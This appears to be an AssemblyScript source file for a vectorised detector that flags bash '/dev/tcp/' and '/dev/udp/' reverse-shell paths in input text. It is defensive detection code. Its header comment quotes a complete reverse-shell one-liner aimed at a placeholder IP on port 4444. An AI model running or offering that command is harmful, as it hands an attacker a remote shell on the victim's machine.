// bash's network redirection: a path under /dev/tcp/ or /dev/udp/ with a host and a port
// (`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`), which bash, and no file system, opens as a
// socket: the reverse shell of every payload list, and no application's file. The model scored
// `sh -i >& /dev/udp/…/4444 0>&1` 42 as a whole value. Read by core/payloads.ts for texts with a
// '/'; total and allocation-free.

import { canReadBlock } from "../lib/scan";
import { splat8 } from "../lib/splat";

// `/de` is looked for 16 places at a time: these texts are mostly URLs, and a call at each of their
// '/' cost a JSON body 0.3% of its instructions (make profile); this scan costs it 0.3%.
export function bashNetRedirect(p: usize, n: i32): bool {
  let last = n - 10; // the last place a match can start: "/dev/tcp/" and a byte of the host
  for (let i = 0; i <= last; i += 16) {
    let m: i32;
    if (canReadBlock(p + <usize>(i + 2))) {
      let a = i8x16.eq(v128.load(p + <usize>i), splat8(0x2F));
      let b = i8x16.eq(v128.load(p + <usize>(i + 1)), splat8(0x64));
      let c = i8x16.eq(v128.load(p + <usize>(i + 2)), splat8(0x65));
      m = i8x16.bitmask(v128.and(v128.and(a, b), c));
      if (last - i < 15) m &= (2 << (last - i)) - 1;
    } else {
      m = 0;
      for (let k = 0; k < 16 && i + k <= last; k++) if (load<u8>(p + <usize>(i + k)) == 0x2F) m |= 1 << k;
    }
    while (m != 0) {
      let j = i + ctz(m);
      m &= m - 1;
      if (load<u32>(p + <usize>j, 1) != 0x2F766564) continue; // "dev/"
      let proto = load<u32>(p + <usize>j, 5);
      if ((proto == 0x2F706374 || proto == 0x2F706475) && load<u8>(p + <usize>(j + 9)) > 0x20) return true; // "tcp/", "udp/"
    }
  }
  return false;
}
